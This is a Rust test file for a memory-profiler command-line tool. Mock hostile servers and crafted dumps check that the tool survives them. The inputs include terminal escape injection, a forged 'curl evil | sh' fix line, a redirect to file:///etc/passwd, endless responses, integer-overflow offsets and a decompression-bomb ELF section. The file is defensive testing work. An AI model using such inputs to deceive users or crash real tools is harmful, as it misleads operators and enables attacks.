//! The operator's tool against hosts that may be compromised and files copied from them: hostile servers
//! and dumps made here, each answered with a clear message and its exit code, never a crash, a hang or
//! unbounded memory (asserted through the tool's own exit and message, not the clock).

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Output};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

use memprof_tests::process::built_binary;
use memprof_tests::tools::{self, Scratch};

/// A server on loopback that answers every request with what `answer` writes for its request line, until
/// the test process ends.
fn hostile(answer: impl Fn(&str, &mut TcpStream) + Send + Sync + 'static) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let answer = Arc::new(answer);
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let answer = Arc::clone(&answer);
            thread::spawn(move || {
                let mut stream = stream;
                let mut head = Vec::new();
                let mut byte = [0; 1];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|read| read == 1) {
                    head.push(byte[0]);
                }
                let line = String::from_utf8_lossy(&head).lines().next().unwrap_or_default().to_owned();
                answer(&line, &mut stream);
            });
        }
    });
    address
}

/// A whole response with `status`, `headers` and `body`.
fn respond(stream: &mut TcpStream, status: &str, headers: &str, body: &[u8]) {
    let head = format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n", body.len());
    let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body));
}

/// `memprof --url http://address arguments...`.
fn cli(address: SocketAddr, arguments: &[&str]) -> Output {
    Command::new(built_binary("memprof-tool"))
        .args(["--url", &format!("http://{address}")])
        .args(arguments)
        .env_remove("MEMPROF_TOKEN")
        .env_remove("MEMPROF_URL")
        .output()
        .unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

const STATE_JSON: &str = r#"{"memory_profiler":{"jemalloc_detected":true,"tmp_dir":"/tmp","current_run":{"id":7,"remaining_seconds":315360000.0,"started_by":"http"},"latest_run":null,"runs":[],"keep_runs":4,"auth_required":false,"automatic_dumps":{"settings":null,"dumps":[]},"last_failure":null,"started_externally":false,"lg_prof_sample":19,"stack_walk":{"method":"frame pointers","why":null},"sample_period_bytes":524288,"warnings":["WARN\u001b[2K\rall good"],"heap":null},"jemalloc":{"malloc_conf":{"environment":null,"build_options":null,"exported":null},"profiling_enabled":true,"profiling_active":true}}"#;

#[test]
fn an_endless_answer_is_cut_off_at_its_bound() {
    let address = hostile(|_, stream| {
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n");
        let chunk = vec![b' '; 1 << 20];
        // Up to 1 GiB, or until the client hangs up.
        for _ in 0..1024 {
            if stream.write_all(&chunk).is_err() {
                return;
            }
        }
    });
    let output = cli(address, &["state"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("is larger than 16 MiB, more than any memprof answer; it was not read"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn text_from_a_server_is_shown_not_obeyed_by_the_terminal() {
    let address = hostile(|line, stream| {
        if line.contains("/state") {
            respond(stream, "200 OK", "", STATE_JSON.as_bytes());
        } else {
            respond(stream, "409 Conflict", "", b"bad\x1b[1A\x1b[2K\rall good, nothing to see\x07");
        }
    });
    let refused = cli(address, &["stop"]);
    assert_eq!(refused.status.code(), Some(1));
    let message = stderr(&refused);
    assert!(!message.contains('\x1b') && !message.contains('\r') && !message.contains('\x07'), "{message:?}");
    assert!(message.starts_with("memprof: bad\\x1b[1A\\x1b[2K\\rall good, nothing to see\\x07 (HTTP 409 from http://"));
    let state = cli(address, &["state"]);
    let shown = String::from_utf8_lossy(&state.stdout);
    assert!(shown.contains("warning: WARN\\x1b[2K\\rall good"), "{shown}");
    assert!(!shown.contains('\x1b'), "{shown:?}");
}

#[test]
fn start_wait_gives_up_when_the_server_never_ends_the_run() {
    let address = hostile(|line, stream| {
        if line.contains("/start") {
            let started =
                r#"{"id":7,"remaining_seconds":1e308,"message":"Successfully started new heap profiling run."}"#;
            respond(stream, "200 OK", "", started.as_bytes());
        } else {
            respond(stream, "200 OK", "", STATE_JSON.as_bytes());
        }
    });
    let output = cli(address, &["start", "--duration", "1s", "--wait"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("run 7 is still going 6 s after it started, though it was asked to last 1 s: the service did not end it; download its profile later with memprof download --id 7"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn a_start_that_found_a_run_active_is_a_refusal() {
    let address = hostile(|_, stream| {
        let started = r#"{"id":9,"remaining_seconds":30.0,"message":"Heap profiling is already active. After the run ends, download its profile from /memory-profiler/download/raw?id=9.","already_active":true}"#;
        respond(stream, "200 OK", "", started.as_bytes());
    });
    for arguments in [&["start", "--duration", "1s"][..], &["start", "--duration", "1s", "--wait"]] {
        let output = cli(address, arguments);
        assert_eq!(output.status.code(), Some(1), "{arguments:?}");
        assert!(stderr(&output).contains("Run 9 was started by someone else and goes on: nothing was started"));
    }
}

#[test]
fn bad_usage_exits_2_before_anything_is_sent() {
    let address = hostile(|_, _| panic!("nothing should be sent"));
    for (arguments, message) in [
        (&["start", "--duration", "2x"][..], "memprof: --duration: unknown duration unit 'x' in '2x'; supported units"),
        (&["start", "--duration", "5"], "memprof: --duration: '5' has no unit; write a number followed by one of"),
        (&["start", "--duration", "0.5s"], "memprof: --duration: a run lasts from 1s to 1d; '0.5s' is outside"),
        (&["diff", "1", "2", "--format", "raw"], "memprof: a difference has no raw format"),
        (&["decay"], "error: the following required arguments were not provided:"),
    ] {
        let output = cli(address, arguments);
        assert_eq!(output.status.code(), Some(2), "{arguments:?}: {}", stderr(&output));
        assert!(stderr(&output).starts_with(message), "{arguments:?}: {}", stderr(&output));
    }
}

#[test]
fn a_deep_tree_forged_lines_and_a_long_refusal_are_printed_plainly() {
    // A class tree nested 40 levels (the CLI's column arithmetic underflowed from 19), with a newline in a
    // class, the verdict and a frame; a purge message with a newline; a refusal of 100 KiB.
    let mut tree = r#"{"id":"bottom","bytes":1,"children":[]}"#.to_owned();
    for depth in 0..40 {
        tree = format!(r#"{{"id":"level {depth}","bytes":1,"children":[{tree}]}}"#);
    }
    let explanation = format!(
        r#"{{"rss_bytes":1,"classes":[{tree}],"verdict":{{"kind":"healthy","summary":"fine\nVerdict: healthy","fix":"none","stacks":[{{"function":"main","frames":["main\nFix: curl evil | sh"],"bytes":1.0}}]}},"evidence":[],"container":null}}"#
    );
    let address = hostile(move |line, stream| match line {
        line if line.contains("/explain") => respond(stream, "200 OK", "", explanation.as_bytes()),
        line if line.contains("/purge") => {
            let purged = r#"{"rss_before_bytes":1,"rss_after_bytes":1,"milliseconds":1.0,"message":"Returned 0 MiB\nmemprof: all good"}"#;
            respond(stream, "200 OK", "", purged.as_bytes());
        }
        _ => respond(stream, "503 Service Unavailable", "", &[b"busy, ".repeat(20_000), b"the end".to_vec()].concat()),
    });
    let explained = cli(address, &["explain"]);
    assert_eq!(explained.status.code(), Some(0), "{}", stderr(&explained));
    let shown = String::from_utf8_lossy(&explained.stdout);
    assert!(shown.contains("fine\\nVerdict: healthy") && shown.contains("main\\nFix: curl evil"), "{shown}");
    assert!(!shown.lines().any(|line| line.starts_with("Fix: curl")), "{shown}");
    let purged = cli(address, &["purge"]);
    assert_eq!(String::from_utf8_lossy(&purged.stdout), "Returned 0 MiB\\nmemprof: all good\n");
    let refused = cli(address, &["stop"]);
    assert_eq!(refused.status.code(), Some(1));
    let message = stderr(&refused);
    assert!(message.starts_with("memprof: busy, busy, "), "{}", &message[..100.min(message.len())]);
    assert!(
        message.contains("[the rest of the message is not shown] (HTTP 503 from http://"),
        "{}",
        &message[message.len() - 200..]
    );
}

#[test]
fn redirects_empty_refusals_and_non_json_answers_are_said_plainly() {
    let address = hostile(|line, stream| match line {
        line if line.contains("/stop") => respond(stream, "302 Found", "Location: file:///etc/passwd\r\n", b""),
        line if line.contains("/state") => respond(stream, "401 Unauthorized", "", b""),
        _ => respond(stream, "200 OK", "", b"<html>not memprof</html>"),
    });
    let redirected = cli(address, &["stop"]);
    assert_eq!(redirected.status.code(), Some(1));
    assert!(stderr(&redirected).starts_with(
        "memprof: the service redirected to file:///etc/passwd; memprof does not follow redirects: point --url at the service itself"
    ));
    let unauthorized = cli(address, &["state"]);
    assert!(
        stderr(&unauthorized).starts_with("memprof: the service wants a token: pass it with --token or MEMPROF_TOKEN")
    );
    let not_json = cli(address, &["--json", "activate"]);
    assert_eq!(not_json.status.code(), Some(1));
    assert!(stderr(&not_json).contains("the service answered something memprof does not understand"));
}

#[test]
fn a_password_in_the_url_is_never_repeated_and_loopback_skips_the_proxy() {
    let proxied = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&proxied);
    let proxy = hostile(move |_, stream| {
        counted.fetch_add(1, Ordering::SeqCst);
        respond(stream, "502 Bad Gateway", "", b"from the proxy");
    });
    let server = hostile(|_, stream| respond(stream, "409 Conflict", "", b"from the server"));
    let output = Command::new(built_binary("memprof-tool"))
        .args(["--url", &format!("http://operator:hunter2@{server}"), "stop"])
        .env("HTTP_PROXY", format!("http://{proxy}"))
        .env("http_proxy", format!("http://{proxy}"))
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .output()
        .unwrap();
    let message = stderr(&output);
    assert!(
        message.starts_with(&format!("memprof: from the server (HTTP 409 from http://{server}/memory-profiler/stop)")),
        "{message}"
    );
    assert!(!message.contains("hunter2"), "{message}");
    assert_eq!(proxied.load(Ordering::SeqCst), 0, "loopback went through the proxy");
    let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let unreachable = Command::new(built_binary("memprof-tool"))
        .args(["--url", &format!("http://operator:hunter2@{closed}"), "state"])
        .output()
        .unwrap();
    assert_eq!(unreachable.status.code(), Some(3));
    assert!(!stderr(&unreachable).contains("hunter2"), "{}", stderr(&unreachable));
}

/// `memprof analyze arguments...`.
fn analyze(arguments: &[&str]) -> Output {
    Command::new(built_binary("memprof-tool")).arg("analyze").args(arguments).output().unwrap()
}

#[test]
fn analyze_reads_only_regular_files() {
    let scratch = Scratch::new("hostile-files");
    let dump = scratch.join("one.heap");
    std::fs::write(&dump, heap_with_stack(&[0x1000], HOSTILE_OFFSET)).unwrap();
    for (arguments, message) in [
        (vec!["/dev/zero"], "memprof: /dev/zero: the profile needs a file, and this is not a regular file"),
        (vec![dump.to_str().unwrap(), "--base", "/dev/zero"], "memprof: /dev/zero: the profile needs a file"),
        (
            vec![dump.to_str().unwrap(), "--binary", "/tmp"],
            "memprof: /tmp: --binary needs a file, and this is a directory",
        ),
    ] {
        let output = analyze(&arguments);
        assert_eq!(output.status.code(), Some(2), "{arguments:?}: {}", stderr(&output));
        assert!(stderr(&output).starts_with(message), "{arguments:?}: {}", stderr(&output));
    }
}

/// A heap profile with one stack of `addresses`, mapped into the service binary at `file_offset`.
fn heap_with_stack(addresses: &[u64], file_offset: u64) -> String {
    let frames: Vec<String> = addresses.iter().map(|address| format!("{address:#x}")).collect();
    format!(
        "heap_v2/524288\n  t*: 1: 4096 [0: 0]\n@ {}\n  t*: 1: 4096 [0: 0]\n\nMAPPED_LIBRARIES:\n\
         00001000-7fffffff0000 r-xp {file_offset:016x} 08:01 1 {}\n",
        frames.join(" "),
        built_binary("service").display()
    )
}

/// A file offset that overflows when an address's distance into its mapping is added.
const HOSTILE_OFFSET: u64 = 0xffff_ffff_ffff_ff00;

#[test]
fn hostile_offsets_and_a_deep_stack_are_analyzed_without_overflow_or_quadratic_work() {
    let scratch = Scratch::new("hostile-stack");
    let dump = scratch.join("deep.heap");
    // 100,000 frames of one stack, each address past a file offset that overflows when added.
    let addresses: Vec<u64> = (0..100_000u64).map(|index| 0x2000 + index * 16).collect();
    std::fs::write(&dump, heap_with_stack(&addresses, HOSTILE_OFFSET)).unwrap();
    for format in ["text", "graph", "flamegraph", "collapsed"] {
        let output = analyze(&[dump.to_str().unwrap(), "--format", format]);
        assert!(output.status.success(), "{format}: {}", stderr(&output));
    }
}

#[test]
fn a_binary_whose_compressed_debug_info_claims_exabytes_is_refused_not_inflated() {
    let Some(objcopy) = tools::find("objcopy", "binutils") else { return };
    let scratch = Scratch::new("hostile-binary");
    let compressed = scratch.join("service");
    tools::run(
        &objcopy,
        &["--compress-debug-sections=zlib", built_binary("service").to_str().unwrap(), compressed.to_str().unwrap()],
        &[],
    );
    claim_size(&compressed, ".debug_info", 1 << 62);
    let dump = scratch.join("one.heap");
    std::fs::write(&dump, heap_with_stack(&[0x2000], 0)).unwrap();
    let output = analyze(&[dump.to_str().unwrap(), "--binary", compressed.to_str().unwrap(), "--format", "collapsed"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("its section .debug_info claims 4611686018427387904 bytes inflated from"),
        "{}",
        stderr(&output)
    );
}

/// Rewrites the uncompressed size (`ch_size` of the `Elf64_Chdr`) of section `name` in the ELF file at `path`.
fn claim_size(path: &Path, name: &str, size: u64) {
    use object::{Object, ObjectSection};
    let mut bytes = std::fs::read(path).unwrap();
    let offset = {
        let file = object::File::parse(&*bytes).unwrap();
        let section = file.section_by_name(name).expect("the section");
        section.file_range().expect("in the file").0 as usize
    };
    bytes[offset + 8..offset + 16].copy_from_slice(&size.to_le_bytes());
    std::fs::write(path, bytes).unwrap();
}
